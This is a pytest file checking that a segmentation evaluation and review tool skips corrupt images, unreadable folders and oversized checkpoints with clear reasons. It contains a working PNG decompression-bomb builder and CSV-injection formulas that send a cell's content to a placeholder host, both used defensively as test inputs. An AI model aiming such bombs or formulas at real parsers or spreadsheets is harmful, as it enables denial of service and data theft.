"""Bad input never stops the work: each bad file of issue 15 in a small real split is skipped
with its reason while the good images are scored exactly as in a clean split; unreadable
folders are skipped or a one-line error; decompression bombs and absurd checkpoints are
refused with a one-line reason, in a process whose peak memory stays small."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import struct
import subprocess
import sys
import zlib
from collections.abc import Callable
from datetime import datetime
from pathlib import Path

import cv2
import numpy as np
import pytest
import torch
from PIL import Image

from db.store import ReviewStore
from models import evaluate, train
from models.catalogue import ModelCatalogue
from models.checkpoints import CheckpointError, load_checkpoint
from models.datasets import (
    DEFAULT_MAX_PIXELS,
    MAX_PIXELS_ENV,
    DatasetError,
    SegmentationDataset,
    open_dataset,
    read_rgb_image,
)
from models.inference import InferenceEngine
from reviewer import launcher
from reviewer.handlers import DatasetView, FlagDesk, UploadDesk, readable
from reviewer.report import ExportedFlag, flag_to_json, write_flags_csv
from reviewer.text import markdown_text
from reviewer.workbench import Workbench
from tests.test_losses import write_tiny_cityscapes

ROOT = Path(__file__).resolve().parents[1]
PEAK_LIMIT_BYTES = 2 * 1024**3


def _chunk(kind: bytes, data: bytes) -> bytes:
    body = kind + data
    return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))


ZERO_CHUNK = 1 << 24
"""Zero bytes per deflate block of a bomb: every block after the first compresses alike."""


def _zeros_deflated(total: int) -> bytes:
    """A zlib stream of ``total`` zero bytes, built in a second for gigabytes: each chunk is
    ended by a full flush, which resets the compressor, so all chunks but the first
    compress to the same bytes and are repeated; the trailer's Adler-32 is that of
    ``total`` zeros (a = 1, b = total mod 65521)."""
    chunks, rest = divmod(total, ZERO_CHUNK)
    if chunks < 2:
        return zlib.compress(bytes(total), 9)
    compressor = zlib.compressobj(9)
    first = compressor.compress(bytes(ZERO_CHUNK)) + compressor.flush(zlib.Z_FULL_FLUSH)
    repeated = compressor.compress(bytes(ZERO_CHUNK)) + compressor.flush(zlib.Z_FULL_FLUSH)
    end = compressor.compress(bytes(rest)) + compressor.flush()
    adler = ((total % 65521) << 16) | 1
    return first + repeated * (chunks - 1) + end[:-4] + adler.to_bytes(4, "big")


def write_png_bomb(path: Path, width: int, height: int) -> Path:
    """A valid 8-bit RGB PNG of zeros: a few MB that decode to width*height*3 bytes."""
    total = height * (1 + 3 * width)
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    png = b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", _zeros_deflated(total))
    path.write_bytes(png + _chunk(b"IEND", b""))
    return path


def test_the_bombs_are_valid_pngs(tmp_path: Path) -> None:
    bomb = write_png_bomb(tmp_path / "bomb.png", 3000, 2000)
    decoded = cv2.imread(str(bomb), cv2.IMREAD_UNCHANGED)
    assert decoded.shape == (2000, 3000, 3) and not decoded.any()
    assert bomb.stat().st_size < decoded.nbytes / 500


def _peak_of(code: str, env: dict[str, str] | None = None) -> tuple[dict, int]:
    """Run ``code`` in a fresh interpreter; its printed JSON and its peak memory in bytes."""
    wrapper = (
        "import json, resource\n"
        f"{code}\n"
        "result['peak'] = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024\n"
        "print(json.dumps(result))\n"
    )
    run = subprocess.run(
        [sys.executable, "-c", wrapper],
        capture_output=True,
        text=True,
        cwd=ROOT,
        env=env,
        check=True,
    )
    result = json.loads(run.stdout.strip().splitlines()[-1])
    return result, int(result.pop("peak"))


def _refusal_in_fresh_process(setup: str, call: str, error: str) -> tuple[str | None, int]:
    """The message of the ``error`` that ``call`` raises after ``setup`` in a fresh
    interpreter (None if it raises none), and that process's peak memory in bytes."""
    code = (
        f"{setup}\n"
        "try:\n"
        f"    {call}\n"
        "    result = {'error': None}\n"
        f"except {error} as error:\n"
        "    result = {'error': str(error)}\n"
    )
    result, peak = _peak_of(code)
    return result["error"], peak


def bench_for(dataset: SegmentationDataset, models: Path, folder: Path) -> Workbench:
    """A workbench over ``dataset`` with the checkpoints of ``models`` and a SQLite store
    and upload folder in ``folder``."""
    return Workbench(
        dataset=dataset,
        engine=InferenceEngine(device="cpu"),
        store=ReviewStore.open(f"sqlite:///{folder / 'review.db'}"),
        catalogue=ModelCatalogue.discover([models], shipped=False),
        upload_dir=folder / "uploads",
    )


def test_a_png_bomb_is_refused_from_its_header_in_little_memory(tmp_path: Path) -> None:
    bomb = write_png_bomb(tmp_path / "bomb.png", 12000, 12000)
    assert bomb.stat().st_size < 1024**2
    error, peak = _refusal_in_fresh_process(
        "from pathlib import Path\nfrom models.datasets import DatasetError, read_rgb_image",
        f"read_rgb_image(Path({str(bomb)!r}))",
        "DatasetError",
    )
    assert error == (
        f"{bomb}: 12000x12000 is 144 MP, above the limit of 40 MP (set {MAX_PIXELS_ENV} to "
        "raise it)"
    )
    assert peak < PEAK_LIMIT_BYTES


def test_the_pixel_limit_can_be_raised(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    image = write_png_bomb(tmp_path / "wide.png", 100, 50)
    monkeypatch.setenv(MAX_PIXELS_ENV, "4000")
    with pytest.raises(DatasetError, match=r"is 0\.005 MP, above the limit of 0\.004 MP"):
        read_rgb_image(image)
    monkeypatch.setenv(MAX_PIXELS_ENV, "5000")
    assert read_rgb_image(image).shape == (50, 100, 3)
    monkeypatch.delenv(MAX_PIXELS_ENV)
    assert DEFAULT_MAX_PIXELS == 40_000_000


def test_a_checkpoint_claiming_a_huge_input_is_refused_in_little_memory(tmp_path: Path) -> None:
    shipped = torch.load(ROOT / "models/checkpoints/segnet-ce.pt", weights_only=True)
    shipped["metadata"]["preprocessing"]["input_size"] = [60000, 60000]
    torch.save(shipped, tmp_path / "huge.pt")
    error, peak = _refusal_in_fresh_process(
        "from models.checkpoints import CheckpointError\n"
        "from models.inference import InferenceEngine",
        f"InferenceEngine(device='cpu').load({str(tmp_path / 'huge.pt')!r})",
        "CheckpointError",
    )
    assert error == (
        f"{tmp_path / 'huge.pt'}: invalid checkpoint metadata (input size must be 1..4096 per "
        "side, got 60000x60000)"
    )
    assert peak < PEAK_LIMIT_BYTES
    with pytest.raises(CheckpointError):
        load_checkpoint(tmp_path / "huge.pt")


def test_a_12000_pixel_square_upload_is_refused_in_little_memory(
    tiny_synthetic: Path, tiny_models: Path, tmp_path: Path
) -> None:
    bomb = write_png_bomb(tmp_path / "upload.png", 12000, 12000)
    assert bomb.stat().st_size < 1024**2
    folders = [str(tiny_synthetic), str(tiny_models), str(tmp_path)]
    error, peak = _refusal_in_fresh_process(
        "from pathlib import Path\n"
        "from models.datasets import DatasetError, open_dataset\n"
        "from reviewer.handlers import FlagDesk, UploadDesk\n"
        "from tests.test_faults import bench_for\n"
        f"data, models, folder = [Path(f) for f in {folders!r}]\n"
        "bench = bench_for(open_dataset(data, 'val'), models, folder)\n"
        f"upload = {{'path': {str(bomb)!r}, 'orig_name': 'my photo.png'}}",
        "UploadDesk(bench, FlagDesk(bench)).predict(upload, ('segnet-ce', 'segnet-ial'), 0.5)",
        "DatasetError",
    )
    assert error == (
        f"my photo.png: 12000x12000 is 144 MP, above the limit of 40 MP (set {MAX_PIXELS_ENV} "
        "to raise it)"
    )
    assert peak < PEAK_LIMIT_BYTES


def test_a_30000_pixel_square_png_in_a_split_is_skipped_in_little_memory(
    clean_split: Path, tiny_models: Path, tmp_path: Path
) -> None:
    root = tmp_path / "split"
    shutil.copytree(clean_split, root)
    bomb = write_png_bomb(root / "val" / "ZZbomb.png", 30000, 30000)
    assert bomb.stat().st_size < 5 * 1024**2
    _png(root / "valannot" / "ZZbomb.png", np.zeros(SMALL, np.uint8))
    code = (
        "from pathlib import Path\n"
        "from tests.test_faults import _evaluate\n"
        f"folders = [Path(f) for f in {[str(root), str(tiny_models), str(tmp_path)]!r}]\n"
        "result = {'code': _evaluate(*folders)}\n"
    )
    result, peak = _peak_of(code)
    assert result == {"code": 0}
    assert peak < PEAK_LIMIT_BYTES
    document = json.loads((tmp_path / "scores.json").read_text(encoding="utf-8"))
    reason = f"30000x30000 is 900 MP, above the limit of 40 MP (set {MAX_PIXELS_ENV} to raise it)"
    assert document["dataset"]["skipped"] == [{"path": str(bomb), "reason": reason}]
    assert document["dataset"]["images"] == GOOD_IMAGES


def _flag(**text: str) -> ExportedFlag:
    when = datetime(2026, 1, 2, 3, 4, 5)
    values = dict(
        flag_id=1, image_id=2, image_key="val/a", image_path="a.png", dataset_id=3,
        dataset="d", split="val", target="model_a", severity="major", category="other",
        status="open", note="", region=None, reviewer="ann", created_at=when, updated_at=when,
        model_a_id=4, model_a="ce", model_a_hash="h", model_b_id=5, model_b="ial",
        model_b_hash="g", scores_a={"miou": -0.5}, scores_b=None, critical_pixels=None,
        scores_source=None, scores_problem=None, history=(),
    )  # fmt: skip
    return ExportedFlag(**{**values, **text})


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_would_be_formulas_are_text(start: str) -> None:
    formula = f'{start}HYPERLINK("http://x.invalid/?"&A1,"open")'
    handle = io.StringIO(newline="")
    write_flags_csv(handle, [_flag(reviewer=formula, note=f"{start}1+2", image_key="ok")])
    handle.seek(0)
    (row,) = csv.DictReader(handle)
    assert row["reviewer"] == f"'{formula}"
    assert row["note"] == f"'{start}1+2"
    assert row["image_key"] == "ok"
    assert row["a_miou"] == "-0.5", "numbers are written as numbers"
    assert flag_to_json(_flag(reviewer=formula))["reviewer"] == formula, "JSON keeps raw text"


GOOD_IMAGES = 3
BAD = "ZZbad_000001"
NOT_DECODED = "cannot be decoded (corrupt, truncated or not an image)"
SMALL = (36, 48)


@pytest.fixture(scope="module")
def clean_split(camvid_root: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The first real CamVid val images with their labels, as a split of their own."""
    root = tmp_path_factory.mktemp("clean").resolve()
    for folder in ("val", "valannot"):
        (root / folder).mkdir()
        for path in sorted((camvid_root / folder).glob("*.png"))[:GOOD_IMAGES]:
            shutil.copy(path, root / folder / path.name)
    return root


def _evaluate(root: Path, models: Path, out: Path, *extra: str) -> int:
    checkpoints = [str(models / "segnet-ce.pt"), str(models / "segnet-ial.pt")]
    files = ["--json", str(out / "scores.json"), "--csv", str(out / "s.csv")]
    data = ["--data", str(root), "--split", "val", "--device", "cpu", "--bootstrap", "0"]
    return evaluate.main([*data, "--models", *checkpoints, *files, *extra])


def _image_scores(out: Path) -> dict[str, dict]:
    document = json.loads((out / "scores.json").read_text(encoding="utf-8"))
    return {image["sample_id"]: image["scores"] for image in document["images"]}


@pytest.fixture(scope="module")
def clean_scores(clean_split: Path, tiny_models: Path, tmp_path_factory) -> dict[str, dict]:
    out = tmp_path_factory.mktemp("clean-scores")
    assert _evaluate(clean_split, tiny_models, out) == 0
    scores = _image_scores(out)
    assert len(scores) == GOOD_IMAGES
    return scores


def _png(path: Path, array: np.ndarray) -> bytes:
    assert cv2.imwrite(str(path), array)
    return path.read_bytes()


def _pair(root: Path, image: np.ndarray | None = None, label: np.ndarray | None = None) -> None:
    """The bad sample's files: a good image and label unless given."""
    rgb = np.random.default_rng(5).integers(0, 256, (*SMALL, 3), dtype=np.uint8)
    _png(root / "val" / f"{BAD}.png", rgb if image is None else image)
    _png(root / "valannot" / f"{BAD}.png", np.full(SMALL, 3, np.uint8) if label is None else label)


def _truncated(path: Path) -> None:
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])


def _paletted(path: Path) -> None:
    Image.open(path).convert("P").save(path)


def _fault(
    folder: str, make: Callable[[Path], None], reason: str
) -> Callable[[Path], tuple[str, str]]:
    """A fault maker: the bad sample with its file in ``folder`` (val or valannot) spoiled by
    ``make``; it gives the spoiled file relative to the split and the reason expected."""

    def fault(root: Path) -> tuple[str, str]:
        _pair(root)
        make(root / folder / f"{BAD}.png")
        return f"{folder}/{BAD}.png", reason

    return fault


def _image_fault(make: Callable[[Path], None], reason: str) -> Callable[[Path], tuple[str, str]]:
    return _fault("val", make, reason)


def _label_fault(make: Callable[[Path], None], reason: str) -> Callable[[Path], tuple[str, str]]:
    return _fault("valannot", make, reason)


def _corrupt_jpeg(root: Path) -> tuple[str, str]:
    image = np.random.default_rng(6).integers(0, 256, (*SMALL, 3), dtype=np.uint8)
    _png(root / "val" / f"{BAD}.jpg", image)
    _truncated(root / "val" / f"{BAD}.jpg")
    _png(root / "valannot" / f"{BAD}.jpg", np.full(SMALL, 3, np.uint8))
    return f"val/{BAD}.jpg", NOT_DECODED


RGB_NEEDED = "an 8-bit RGB image is needed"
GREY_NEEDED = "an 8-bit grey label image is needed"
FAULTS: dict[str, Callable[[Path], tuple[str, str]]] = {
    "truncated PNG": _image_fault(_truncated, NOT_DECODED),
    "zero-byte PNG": _image_fault(lambda p: p.write_bytes(b""), "file is empty (0 bytes)"),
    "16-bit image": _image_fault(
        lambda p: _png(p, np.zeros((*SMALL, 3), np.uint16)), f"image is 16-bit RGB; {RGB_NEEDED}"
    ),
    "grey image": _image_fault(
        lambda p: _png(p, np.zeros(SMALL, np.uint8)), f"image is 8-bit grey; {RGB_NEEDED}"
    ),
    "RGBA image": _image_fault(
        lambda p: _png(p, np.zeros((*SMALL, 4), np.uint8)), f"image is 8-bit RGBA; {RGB_NEEDED}"
    ),
    "paletted image": _image_fault(_paletted, f"image is 8-bit paletted; {RGB_NEEDED}"),
    "truncated label": _label_fault(_truncated, NOT_DECODED),
    "16-bit label": _label_fault(
        lambda p: _png(p, np.zeros(SMALL, np.uint16)), f"label is 16-bit grey; {GREY_NEEDED}"
    ),
    "paletted label": _label_fault(_paletted, f"label is 8-bit paletted; {GREY_NEEDED}"),
    "label value out of range": _label_fault(
        lambda p: _png(p, np.full(SMALL, 200, np.uint8)),
        "label value 200 is out of range (0..11)",
    ),
    "text named .png": _image_fault(
        lambda p: p.write_text("not an image", encoding="utf-8"),
        "not a PNG file (no PNG signature at its start)",
    ),
    "corrupt JPEG": _corrupt_jpeg,
}


@pytest.mark.parametrize("fault", FAULTS)
def test_a_bad_file_is_skipped_with_its_reason_and_the_rest_scored_as_in_a_clean_split(
    fault: str,
    clean_split: Path,
    clean_scores: dict[str, dict],
    tiny_models: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    root = tmp_path / "split"
    shutil.copytree(clean_split, root)
    relative, reason = FAULTS[fault](root)
    assert _evaluate(root, tiny_models, tmp_path) == 0
    printed = capsys.readouterr().err
    assert "Traceback" not in printed
    assert f"1 file skipped: {relative}: {reason}" in printed.splitlines()
    document = json.loads((tmp_path / "scores.json").read_text(encoding="utf-8"))
    assert document["dataset"]["skipped"] == [{"path": str(root / relative), "reason": reason}]
    assert document["dataset"]["images"] == GOOD_IMAGES
    assert _image_scores(tmp_path) == clean_scores
    *_, last = csv.DictReader((tmp_path / "s.csv").open(encoding="utf-8"))
    assert (last["sample_id"], last["model"], last["skipped_reason"]) == (relative, "", reason)
    assert last["miou"] == ""


def test_the_command_lists_ten_skipped_files_and_all_with_verbose(
    clean_split: Path, tiny_models: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    root = tmp_path / "split"
    shutil.copytree(clean_split, root)
    for n in range(12):
        (root / "val" / f"empty{n:02}.png").write_bytes(b"")
        (root / "valannot" / f"empty{n:02}.png").write_bytes(b"")
    assert _evaluate(root, tiny_models, tmp_path) == 0
    lines = capsys.readouterr().err.splitlines()
    start = lines.index("12 files skipped:")
    listed = [f"  val/empty{n:02}.png: file is empty (0 bytes)" for n in range(12)]
    assert lines[start + 1 : start + 12] == [*listed[:10], "  and 2 more"]
    assert _evaluate(root, tiny_models, tmp_path, "--verbose") == 0
    lines = capsys.readouterr().err.splitlines()
    start = lines.index("12 files skipped:")
    assert lines[start + 1 : start + 14] == [*listed, lines[start + 13]]
    assert "more" not in lines[start + 13]
    assert _image_scores(tmp_path).keys() == {
        f"val/{p.stem}" for p in (clean_split / "val").iterdir()
    }


def unreadable(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Make ``folder`` unreadable to this process: by its mode for an ordinary user; as root,
    who reads any folder whatever its mode, by making listing it fail exactly as the system
    fails for others (PermissionError, errno 13, naming the folder)."""
    if os.geteuid() != 0:
        folder.chmod(0)  # the test gives the mode back when done
        return
    listing = Path.iterdir

    def iterdir(self: Path):
        if self == folder:
            raise PermissionError(13, "Permission denied", str(self))
        return listing(self)

    monkeypatch.setattr(Path, "iterdir", iterdir)


def test_an_unreadable_city_folder_is_reported_as_skipped(
    cityscapes_root: Path,
    tiny_models: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    root = tmp_path / "cityscapes"
    shutil.copytree(cityscapes_root, root)
    locked = root / "leftImg8bit" / "val" / "aachen"
    shutil.copytree(root / "leftImg8bit" / "val" / "frankfurt", locked)
    unreadable(locked, monkeypatch)
    try:
        assert _evaluate(root, tiny_models, tmp_path) == 0
    finally:
        locked.chmod(0o755)
    reason = "folder cannot be read (Permission denied); check its permissions"
    assert f"1 file skipped: leftImg8bit/val/aachen: {reason}" in capsys.readouterr().err
    document = json.loads((tmp_path / "scores.json").read_text(encoding="utf-8"))
    assert document["dataset"]["skipped"] == [{"path": str(locked), "reason": reason}]
    assert [image["sample_id"] for image in document["images"]] == [
        "val/frankfurt/frankfurt_000000_000294"
    ]


@pytest.mark.parametrize("command", ["evaluate", "launch"])
def test_an_unreadable_split_folder_is_a_one_line_error(
    command: str,
    clean_split: Path,
    tiny_models: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    root = tmp_path / "split"
    shutil.copytree(clean_split, root)
    unreadable(root / "val", monkeypatch)
    monkeypatch.setenv("SEGBENCH_DATA", str(tmp_path / "data"))
    try:
        if command == "evaluate":
            code = _evaluate(root, tiny_models, tmp_path)
        else:
            code = launcher.main(["--data", str(root), "--models", str(tiny_models)])
    finally:
        (root / "val").chmod(0o755)
    assert code == 2
    printed = capsys.readouterr().err.strip().splitlines()
    assert printed[-1] == (
        f"error: {root / 'val'}: folder cannot be read (Permission denied); check its permissions"
    )
    assert not (tmp_path / "scores.json").exists()


def test_the_app_starts_without_decoding_and_ranks_the_images_it_can_score(
    clean_split: Path, tiny_models: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    root = tmp_path / "split"
    shutil.copytree(clean_split, root)
    label = np.full(SMALL, 3, np.uint8)
    for stem, suffix in (("ZZempty", ".jpg"), ("ZZtext", ".jpg"), ("ZZcut", ".jpg")):
        _png(root / "valannot" / f"{stem}{suffix}", label)
    (root / "val" / "ZZempty.jpg").write_bytes(b"")
    (root / "val" / "ZZtext.jpg").write_text("not an image", encoding="utf-8")
    _png(root / "val" / "ZZcut.jpg", np.zeros((*SMALL, 3), np.uint8))
    _truncated(root / "val" / "ZZcut.jpg")
    _png(root / "val" / "ZZbmp.bmp", np.zeros((*SMALL, 3), np.uint8))
    _png(root / "valannot" / "ZZbmp.bmp", label)
    dataset = open_dataset(root, "val")

    def no_decoding(path: Path) -> None:
        raise AssertionError(f"start-up decoded {path}")

    with monkeypatch.context() as patch:
        patch.setattr("models.datasets._decode", no_decoding)
        bench = bench_for(dataset, tiny_models, tmp_path)
    pair = ("segnet-ce", "segnet-ial")
    bench.score_in_background(*pair).future.result(timeout=300)
    rows = bench.queue.rows(*pair, "safety error of A")
    good = {f"val/{path.stem}" for path in (clean_split / "val").iterdir()} | {"val/ZZbmp"}
    assert {row.sample_id for row in rows if row.value is not None} == good
    assert rows[-1].sample_id == "val/ZZcut" and rows[-1].value is None
    message = DatasetView(bench).show(pair).message
    expected = [
        "3 files skipped:",
        "val/ZZempty.jpg: file is empty (0 bytes)",
        "val/ZZtext.jpg: not a JPEG file, or its header is cut short",
        f"val/ZZcut.jpg: {NOT_DECODED}",
    ]
    for line in expected:
        assert markdown_text(line) in message
    assert "Evaluated 4 images" in message
    assert bench.registry.image_count == 5


@pytest.mark.parametrize(
    ("name", "contents", "reason"),
    [
        (
            "notes.png",
            b"meeting notes",
            "not an image this app can read (PNG, JPEG, BMP, TIFF or WebP), or its header is "
            "cut short",
        ),
        (
            "empty.jpg",
            b"",
            "not an image this app can read (PNG, JPEG, BMP, TIFF or WebP), or "
            "its header is cut short",
        ),
    ],
)
def test_a_non_image_upload_gets_a_message_naming_it(
    tiny_synthetic: Path, tiny_models: Path, tmp_path: Path, name: str, contents: bytes, reason: str
) -> None:
    bench = bench_for(open_dataset(tiny_synthetic, "val"), tiny_models, tmp_path)
    (tmp_path / "upload").write_bytes(contents)
    upload = {"path": str(tmp_path / "upload"), "orig_name": name}
    desk = UploadDesk(bench, FlagDesk(bench))
    pair = ("segnet-ce", "segnet-ial")
    for act in (
        lambda: desk.predict(upload, pair, 0.5),
        lambda: desk.flag(upload, pair, ("ana", "model A", "major", "other", "")),
    ):
        with pytest.raises(DatasetError) as refusal:
            act()
        assert readable(refusal.value, "upload") == f"{name}: {reason}"
    grey = np.random.default_rng(3).integers(0, 256, (40, 60), dtype=np.uint8)
    _png(tmp_path / "grey.png", grey)
    shown = desk.predict({"path": str(tmp_path / "grey.png"), "orig_name": "g.png"}, pair, 0.5)
    assert shown.prediction_a.shape[:2] == (40, 60), "a grey photo is read as RGB"


def test_training_skips_bad_files_with_a_warning_and_stops_past_the_share(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SEGBENCH_CACHE", str(tmp_path / "user-cache"))
    clean, faulty = tmp_path / "clean", tmp_path / "faulty"
    write_tiny_cityscapes(clean, {"train": 4, "val": 2}, size=(64, 128), seed=3)
    shutil.copytree(clean, faulty)
    town = ("leftImg8bit/train/town", "gtFine/train/town")
    cut = faulty / town[1] / "town_000001_000019_gtFine_labelIds.png"
    shutil.copy(cut, faulty / town[1] / "zz_000000_000019_gtFine_labelIds.png")
    shutil.copy(
        faulty / town[0] / "town_000001_000019_leftImg8bit.png",
        faulty / town[0] / "zz_000000_000019_leftImg8bit.png",
    )
    _truncated(faulty / town[1] / "zz_000000_000019_gtFine_labelIds.png")
    _png(faulty / town[0] / "zy_000000_000019_leftImg8bit.png", np.zeros((64, 128), np.uint8))
    shutil.copy(cut, faulty / town[1] / "zy_000000_000019_gtFine_labelIds.png")
    tiny = ["--width", "0.0625", "--size", "32x64", "--batch", "2", "--quiet", "--epochs", "1"]
    tiny += ["--loss", "ce"]

    def run(data: Path, *extra: str) -> int:
        out = ["--data", str(data), "--out", str(tmp_path / data.name / "m.pt")]
        return train.main([*out, *tiny, *extra])

    assert run(faulty) == 2
    printed = capsys.readouterr().err.splitlines()
    assert printed[-1] == (
        f"error: {faulty}: 2 of 6 files of split 'train' cannot be used, more than "
        "--max-bad-share 0.05; the first: leftImg8bit/train/town/zy_000000_000019_leftImg8bit"
        f".png: image is 8-bit grey; {RGB_NEEDED}"
    )
    assert run(faulty, "--max-bad-share", "0.5") == 0
    printed = capsys.readouterr().err.splitlines()
    assert "warning: 2 files skipped:" in printed
    assert (
        f"warning:   gtFine/train/town/zz_000000_000019_gtFine_labelIds.png: {NOT_DECODED}"
        in printed
    )
    assert run(clean) == 0
    trained = load_checkpoint(tmp_path / "faulty" / "m.pt").model.state_dict()
    reference = load_checkpoint(tmp_path / "clean" / "m.pt").model.state_dict()
    assert all(torch.equal(trained[k], reference[k]) for k in reference), (
        "trained on exactly the good files"
    )
